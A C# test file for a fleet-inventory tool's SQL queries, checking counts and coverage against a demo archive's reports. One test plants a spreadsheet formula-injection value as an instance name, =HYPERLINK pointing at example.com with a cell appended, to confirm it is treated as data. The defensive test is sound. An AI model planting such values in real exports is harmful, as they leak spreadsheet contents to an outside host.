using System.Globalization;
using System.Text.Json;
using FleetDiff.Cli.Tests;
using FleetDiff.Core.Pipeline.Archive;

namespace FleetDiff.Queries.Tests;

/// <summary>Tests the queries on the demo's archive, with the counts of its reports.</summary>
public sealed class DemoQueryTests(DemoArchive demo) : IClassFixture<DemoArchive>, IDisposable
{
    private readonly Engine _engine = new(demo.Path);

    public void Dispose() => _engine.Dispose();

    [Fact]
    public void ReturnsEveryInstanceOfEveryRun() => Assert.Equal(
        [["2026-11-19", "70"], ["2026-11-20", "70"], ["2026-11-21", "70"], ["2026-11-22", "77"], ["2026-11-23", "81"]],
        _engine.Ask("SELECT \"date\", count(*) FROM instances GROUP BY \"date\" ORDER BY \"date\""));

    [Fact]
    public void CoverageOfEveryAccountMatchesTheReports()
    {
        var reported = new[] { "2026-11-19", "2026-11-20", "2026-11-21", "2026-11-22", "2026-11-23" }
            .SelectMany(run => Report(run).Accounts.Select(account => (Date: run, Account: account)))
            .OrderBy(row => row.Account.Account, StringComparer.Ordinal)
            .Select(row => $"{row.Account.Account} {row.Date} {row.Account.Instances} {row.Account.Managed} "
                + $"{row.Account.Dormant} {row.Account.Unmanaged} {row.Account.Disputed} {row.Account.Exempt}");

        var counted = _engine.AskFile("coverage-by-account.sql", "2026-11-01");

        Assert.Equal(reported, counted.Select(row => string.Join(' ', row.SkipLast(1))));
    }

    [Fact]
    public void ListsInstancesThatWereUnmanagedOnTheRunBefore()
    {
        var rows = _engine.AskFile("unmanaged-on-date.sql", "2026-11-23");

        Assert.Equal(Report("2026-11-23").Unmanaged.Select(row => row.Instance), rows.Select(row => row[2]));
        Assert.Equal(30, rows.Count);
    }

    [Fact]
    public void CountsTheCausesOfEachRun()
    {
        var reported = Report("2026-11-23").Unmanaged
            .GroupBy(row => (Code: KebabCase.Format(row.Cause!.Code), row.Cause.Resource))
            .Select(rows => $"{rows.Key.Code} {rows.Key.Resource} {rows.Count()} {rows.DistinctBy(row => row.Account).Count()}")
            .Order(StringComparer.Ordinal);

        var counted = _engine.AskFile("causes-over-time.sql", "2026-11-23");

        Assert.Equal(reported, counted.Select(row => string.Join(' ', row.Skip(1))).Order(StringComparer.Ordinal));
    }

    [Fact]
    public void ShowsHostileNamesAsData() => Assert.Contains(
        _engine.AskFile("unmanaged-on-date.sql", "2026-11-23"),
        row => row[3] == "=HYPERLINK(\"https://example.com/\"&A1)");

    private Report Report(string run) => JsonSerializer.Deserialize(
        File.ReadAllText(Path.Combine(demo.Path, $"reports/date={run}/report.json")), ArchiveJson.Instance.Report)
        ?? throw new InvalidDataException(run.ToString(CultureInfo.InvariantCulture));
}
